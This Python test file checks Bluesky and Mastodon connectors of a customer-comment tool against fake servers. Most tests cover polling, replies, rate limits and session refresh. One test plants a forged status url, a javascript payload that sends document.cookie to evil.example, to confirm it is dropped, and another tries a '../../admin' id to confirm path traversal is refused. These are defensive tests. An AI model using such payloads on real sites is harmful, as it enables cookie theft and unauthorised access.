"""Bluesky (AT Protocol XRPC) and Mastodon (REST) against local servers replaying their
documented request and response shapes."""

from __future__ import annotations

from typing import Any

import httpx
import pytest

from crisisdesk.connectors import PermissionMissing, TokenExpired, Unsupported
from crisisdesk.connectors.bluesky import BlueskyConnector
from crisisdesk.connectors.mastodon import MastodonConnector
from crisisdesk.connectors.store import build_connector, save_connection, save_cursor
from crisisdesk.desk import Desk
from tests.connectors.conftest import FakePlatform, Seen

DID = "did:plc:shop123"
X = "/xrpc/"


def _note(n: int, reason: str, indexed: str, reply_to_root: bool = True) -> dict[str, Any]:
    uri = f"at://did:plc:user{n}/app.bsky.feed.post/r{n}"
    record: dict[str, Any] = {
        "$type": "app.bsky.feed.post",
        "text": f"comment {n}: my order is late",
        "createdAt": indexed,
    }
    if reply_to_root:
        root = {"uri": f"at://{DID}/app.bsky.feed.post/p1", "cid": "bafyroot"}
        record["reply"] = {"root": root, "parent": root}
    return {
        "uri": uri,
        "cid": f"bafy{n}",
        "author": {
            "did": f"did:plc:user{n}",
            "handle": f"user{n}.bsky.social",
            "displayName": f"User {n}",
        },
        "reason": reason,
        "record": record,
        "isRead": False,
        "indexedAt": indexed,
    }


@pytest.fixture
def bsky(platform: FakePlatform) -> FakePlatform:
    sessions = {"n": 0}

    def create_session(seen: Seen) -> tuple[int, Any, dict[str, str]]:
        if seen.json.get("password") != "app-pass-1234":
            return (
                401,
                {"error": "AuthenticationRequired", "message": "Invalid identifier or password"},
                {},
            )
        sessions["n"] += 1
        return (
            200,
            {
                "accessJwt": f"access-{sessions['n']}",
                "refreshJwt": "refresh-1",
                "did": DID,
                "handle": "shop.bsky.social",
            },
            {},
        )

    platform.add("POST", X + "com.atproto.server.createSession", create_session)
    platform.add(
        "POST",
        X + "com.atproto.server.refreshSession",
        (
            200,
            {
                "accessJwt": "access-refreshed",
                "refreshJwt": "refresh-2",
                "did": DID,
                "handle": "shop.bsky.social",
            },
            {},
        ),
    )
    return platform


def bluesky(
    platform: FakePlatform, http: httpx.Client, password: str = "app-pass-1234"
) -> BlueskyConnector:
    return BlueskyConnector(
        http,
        identifier="shop.bsky.social",
        app_password=password,
        service=platform.url,
        sleep=lambda s: None,
    )


def test_bluesky_polls_with_a_cursor_and_pages_back(
    cdesk: Desk, bsky: FakePlatform, http: httpx.Client
) -> None:
    pages = {
        None: {
            "notifications": [
                _note(4, "reply", "2024-05-01T10:04:00.000Z"),
                _note(3, "like", "2024-05-01T10:03:00.000Z"),
            ],
            "cursor": "c2",
        },
        "c2": {
            "notifications": [
                _note(2, "mention", "2024-05-01T10:02:00.000Z", reply_to_root=False),
                _note(1, "reply", "2024-05-01T10:01:00.000Z"),
            ],
            "cursor": "c3",
        },
        "c3": {"notifications": []},
    }
    bsky.add(
        "GET",
        X + "app.bsky.notification.listNotifications",
        lambda seen: (200, pages[seen.q("cursor")], {}),  # type: ignore[index]
    )
    conn = bluesky(bsky, http)
    records, cursor = conn.poll(None)
    assert [r.platform_id.rsplit("/", 1)[1] for r in records] == ["r1", "r2", "r4"]
    assert cursor == "2024-05-01T10:04:00.000Z"
    assert (
        records[0].post_id == f"at://{DID}/app.bsky.feed.post/p1" and records[0].parent_id is None
    )
    assert records[1].post_id is None  # a mention outside our threads
    cdesk.ingest(records)
    assert cdesk.stats()["comments"] == 3
    # Next poll: only what is newer than the cursor; paging stops at the first seen item.
    pages[None] = {
        "notifications": [
            _note(5, "reply", "2024-05-01T10:05:00.000Z"),
            _note(4, "reply", "2024-05-01T10:04:00.000Z"),
        ],
        "cursor": "c2",
    }
    before = len(bsky.seen("GET", X + "app.bsky.notification.listNotifications"))
    records, cursor = conn.poll(cursor)
    assert [r.platform_id.rsplit("/", 1)[1] for r in records] == ["r5"]
    assert len(bsky.seen("GET", X + "app.bsky.notification.listNotifications")) == before + 1
    assert cursor == "2024-05-01T10:05:00.000Z"


def test_bluesky_reply_uses_strong_refs_and_refreshes_an_expired_session(
    bsky: FakePlatform, http: httpx.Client
) -> None:
    uri = "at://did:plc:user1/app.bsky.feed.post/r1"
    calls = {"n": 0}

    def get_posts(seen: Seen) -> tuple[int, Any, dict[str, str]]:
        calls["n"] += 1
        if calls["n"] == 1:
            return 400, {"error": "ExpiredToken", "message": "Token has expired"}, {}
        assert seen.headers["authorization"] == "Bearer access-refreshed"
        root = {"uri": f"at://{DID}/app.bsky.feed.post/p1", "cid": "bafyroot"}
        return (
            200,
            {
                "posts": [
                    {
                        "uri": uri,
                        "cid": "bafy1",
                        "record": {"text": "late", "reply": {"root": root, "parent": root}},
                    }
                ]
            },
            {},
        )

    bsky.add("GET", X + "app.bsky.feed.getPosts", get_posts)
    bsky.add(
        "POST",
        X + "com.atproto.repo.createRecord",
        (200, {"uri": f"at://{DID}/app.bsky.feed.post/new", "cid": "bafynew"}, {}),
    )
    conn = bluesky(bsky, http)
    out = conn.reply(uri, "Sorry about that, we're on it")
    assert out["cid"] == "bafynew"
    body = bsky.seen("POST", X + "com.atproto.repo.createRecord")[0].json
    assert body["repo"] == DID and body["collection"] == "app.bsky.feed.post"
    assert body["record"]["reply"] == {
        "root": {"uri": f"at://{DID}/app.bsky.feed.post/p1", "cid": "bafyroot"},
        "parent": {"uri": uri, "cid": "bafy1"},
    }
    with pytest.raises(Unsupported, match="hide"):
        conn.hide(uri)
    with pytest.raises(Unsupported):
        conn.private_reply(uri, "hi")
    with pytest.raises(Unsupported, match="only your own"):
        conn.delete(uri)


def test_bluesky_rate_limit_and_bad_password(bsky: FakePlatform, http: httpx.Client) -> None:
    bsky.add(
        "GET",
        X + "app.bsky.notification.listNotifications",
        (
            429,
            {"error": "RateLimitExceeded", "message": "Rate Limit Exceeded"},
            {"ratelimit-reset": "0"},
        ),
        (200, {"notifications": []}, {}),
    )
    delays: list[float] = []
    conn = bluesky(bsky, http)
    conn.sleep = delays.append
    assert conn.poll(None) == ([], None)
    assert len(delays) == 1
    with pytest.raises(TokenExpired, match="app password"):
        bluesky(bsky, http, password="wrong").login()


MAST = "/api/v1"


def _status(n: int, *, to_us: bool = True) -> dict[str, Any]:
    return {
        "id": str(100 + n),
        "created_at": f"2024-05-01T10:0{n}:00.000Z",
        "in_reply_to_id": "50" if to_us else "77",
        "in_reply_to_account_id": "1" if to_us else "2",
        "visibility": "public",
        "uri": f"https://other.social/users/user{n}/statuses/{100 + n}",
        "url": f"https://other.social/@user{n}/{100 + n}",
        "content": f'<p><span class="h-card"><a href="https://x/@shop">@<span>shop</span></a></span> late order {n} &amp; no reply</p>',
        "account": {
            "id": str(900 + n),
            "acct": f"user{n}@other.social",
            "display_name": f"User {n}",
        },
    }


@pytest.fixture
def mastodon(platform: FakePlatform) -> FakePlatform:
    platform.add(
        "GET",
        MAST + "/accounts/verify_credentials",
        (200, {"id": "1", "acct": "shop", "display_name": "Shop"}, {}),
    )
    return platform


def test_mastodon_polls_mentions_following_link_headers(
    cdesk: Desk, mastodon: FakePlatform, http: httpx.Client
) -> None:
    base = mastodon.url

    def notifications(seen: Seen) -> tuple[int, Any, dict[str, str]]:
        assert seen.query.get("types[]") == ["mention"] or seen.q("max_id")
        if seen.q("max_id") == "12":
            return (
                200,
                [{"id": "11", "type": "mention", "created_at": "x", "status": _status(1)}],
                {},
            )
        if seen.q("max_id") == "11":
            return 200, [], {}
        since = seen.q("since_id")
        items = [
            {"id": "13", "type": "mention", "created_at": "x", "status": _status(3, to_us=False)},
            {"id": "12", "type": "mention", "created_at": "x", "status": _status(2)},
        ]
        if since:
            items = [i for i in items if int(i["id"]) > int(since)]
        link = f'<{base}{MAST}/notifications?max_id=12&types[]=mention>; rel="next", <{base}{MAST}/notifications?min_id=13>; rel="prev"'
        return 200, items, ({"Link": link} if not since else {})

    mastodon.add("GET", MAST + "/notifications", notifications)
    conn = MastodonConnector(http, base_url=base, token="mast-token", sleep=lambda s: None)
    records, cursor = conn.poll(None)
    assert [r.platform_id for r in records] == ["101", "102", "103"]
    assert cursor == "13"
    assert records[0].text == "@shop late order 1 & no reply"
    assert records[0].post_id == "50" and records[0].parent_id is None
    assert records[2].parent_id == "77" and records[2].author_id == "user3@other.social"
    cdesk.ingest(records)
    records, cursor = conn.poll("13")
    assert records == [] and cursor == "13"
    assert mastodon.seen("GET", MAST + "/notifications")[-1].q("since_id") == "13"


def test_mastodon_reply_private_reply_and_refusals(
    mastodon: FakePlatform, http: httpx.Client
) -> None:
    mastodon.add("GET", MAST + "/statuses/101", (200, _status(1), {}))
    mastodon.add(
        "GET",
        MAST + "/statuses/555",
        (200, {"id": "555", "account": {"id": "1", "acct": "shop"}}, {}),
    )
    mastodon.add("DELETE", MAST + "/statuses/555", (200, {"id": "555"}, {}))
    mastodon.add("POST", MAST + "/statuses", (200, {"id": "600"}, {}))
    conn = MastodonConnector(http, base_url=mastodon.url, token="mast-token", sleep=lambda s: None)
    assert conn.reply("101", "Sorry, we're checking now")["id"] == "600"
    conn.private_reply("101", "Here is a voucher")
    public, direct = mastodon.seen("POST", MAST + "/statuses")
    assert public.form == {
        "status": "@user1@other.social Sorry, we're checking now",
        "in_reply_to_id": "101",
        "visibility": "public",
    }
    assert direct.form["visibility"] == "direct"
    assert public.headers["idempotency-key"] != direct.headers["idempotency-key"]
    assert public.headers["authorization"] == "Bearer mast-token"
    with pytest.raises(Unsupported, match="only your own"):
        conn.delete("101")
    conn.delete("555")
    with pytest.raises(Unsupported):
        conn.hide("101")


def test_mastodon_errors(mastodon: FakePlatform, http: httpx.Client) -> None:
    mastodon.add(
        "GET",
        MAST + "/notifications",
        (429, {"error": "Too many requests"}, {"X-RateLimit-Reset": "2000-01-01T00:00:00.000Z"}),
        (401, {"error": "The access token is invalid"}, {}),
    )
    mastodon.add("GET", MAST + "/statuses/101", (403, {"error": "This action is not allowed"}, {}))
    delays: list[float] = []
    conn = MastodonConnector(
        http, base_url=mastodon.url, token="t", account_id="1", sleep=delays.append
    )
    with pytest.raises(TokenExpired, match="connect mastodon"):
        conn.poll(None)
    assert delays == [2.0] or len(delays) == 1
    with pytest.raises(PermissionMissing, match="scopes"):
        conn.reply("101", "hi")


def test_stored_open_network_connections_build_and_keep_cursors(
    cdesk: Desk, mastodon: FakePlatform, http: httpx.Client
) -> None:
    row = save_connection(
        cdesk, "mastodon", "1", token="mast-token", name="shop", config={"base_url": mastodon.url}
    )
    connector = build_connector(cdesk, row, http)
    assert isinstance(connector, MastodonConnector) and connector.account_id == "1"
    save_cursor(cdesk, row.id, "13")
    saved = save_connection(
        cdesk,
        "bluesky",
        DID,
        token="app-pass-1234",
        config={"handle": "shop.bsky.social", "service": mastodon.url},
    )
    bs = build_connector(cdesk, saved, http)
    assert isinstance(bs, BlueskyConnector) and bs.did == DID and "app-pass" not in repr(bs)


def test_mastodon_refuses_ids_that_are_not_ids(mastodon: FakePlatform, http: httpx.Client) -> None:
    from crisisdesk.connectors import ConnectorError

    conn = MastodonConnector(http, base_url=mastodon.url, token="t", account_id="1")
    with pytest.raises(ConnectorError, match="not a Mastodon status id"):
        conn.reply("../../admin", "hi")
    assert not mastodon.requests


def test_bluesky_deletes_its_own_post(bsky: FakePlatform, http: httpx.Client) -> None:
    bsky.add("POST", X + "com.atproto.repo.deleteRecord", (200, {}, {}))
    conn = bluesky(bsky, http)
    conn.delete(f"at://{DID}/app.bsky.feed.post/3kabc")
    assert bsky.seen("POST", X + "com.atproto.repo.deleteRecord")[0].json == {
        "repo": DID,
        "collection": "app.bsky.feed.post",
        "rkey": "3kabc",
    }


def test_mastodon_keeps_a_statuss_web_address_and_drops_a_hostile_one(
    cdesk: Desk, mastodon: FakePlatform, http: httpx.Client
) -> None:
    # Another server's status reaches us as that server wrote it, ``url`` included.
    forged = _status(2) | {"url": "javascript:fetch('//evil.example/'+document.cookie)"}
    missing = _status(3) | {"url": None}
    mastodon.add(
        "GET",
        MAST + "/notifications",
        (
            200,
            [
                {"id": "13", "type": "mention", "created_at": "x", "status": missing},
                {"id": "12", "type": "mention", "created_at": "x", "status": forged},
                {"id": "11", "type": "mention", "created_at": "x", "status": _status(1)},
            ],
            {},
        ),
    )
    conn = MastodonConnector(
        http, base_url=mastodon.url, token="t", account_id="1", sleep=lambda s: None
    )
    records, _cursor = conn.poll(None)
    assert [(r.platform_id, r.permalink) for r in records] == [
        ("101", "https://other.social/@user1/101"),
        ("102", None),
        ("103", None),
    ]
    cdesk.ingest(records)
    found = cdesk.find_comment("101", "mastodon")
    assert found is not None and found.permalink == "https://other.social/@user1/101"
    forged_row = cdesk.find_comment("102", "mastodon")
    assert forged_row is not None and forged_row.permalink is None


def test_bluesky_links_replies_and_their_post_on_the_web_app(
    cdesk: Desk, bsky: FakePlatform, http: httpx.Client
) -> None:
    bsky.add(
        "GET",
        X + "app.bsky.notification.listNotifications",
        (200, {"notifications": [_note(7, "reply", "2024-05-01T10:07:00.000Z")]}, {}),
    )
    records, _cursor = bluesky(bsky, http).poll(None)
    (record,) = records
    assert record.permalink == "https://bsky.app/profile/did:plc:user7/post/r7"
    assert record.post_permalink == f"https://bsky.app/profile/{DID}/post/p1"
    cdesk.ingest(records)
    view = cdesk.comment_view(record_id(cdesk, record.platform_id))
    assert view is not None
    assert view["comment"].permalink == "https://bsky.app/profile/did:plc:user7/post/r7"
    assert view["post"].permalink == f"https://bsky.app/profile/{DID}/post/p1"


def record_id(desk: Desk, platform_id: str) -> int:
    found = desk.find_comment(platform_id, "bluesky")
    assert found is not None
    return found.id


def test_a_bluesky_fetch_names_the_thread_it_replies_to(
    cdesk: Desk, bsky: FakePlatform, http: httpx.Client
) -> None:
    from crisisdesk.connectors.accounts import sync_connection
    from crisisdesk.models import Post

    root = f"at://{DID}/app.bsky.feed.post/p1"
    bsky.add(
        "GET",
        X + "app.bsky.notification.listNotifications",
        (200, {"notifications": [_note(1, "reply", "2024-05-01T10:00:00.000Z")]}, {}),
    )
    bsky.add(
        "GET",
        X + "app.bsky.feed.getPosts",
        (200, {"posts": [{"uri": root, "cid": "bafyroot", "record": {"text": "Saldi!"}}]}, {}),
    )
    row = save_connection(
        cdesk,
        "bluesky",
        DID,
        token="app-pass-1234",
        config={"handle": "shop.bsky.social", "service": bsky.url},
    )
    assert sync_connection(cdesk, row, http).report.inserted == 1
    assert bsky.seen("GET", X + "app.bsky.feed.getPosts")[0].q("uris") == root
    with cdesk.session() as s:
        post = s.query(Post).one()
    assert post.message == "Saldi!"
    assert post.permalink == "https://bsky.app/profile/did:plc:shop123/post/p1"
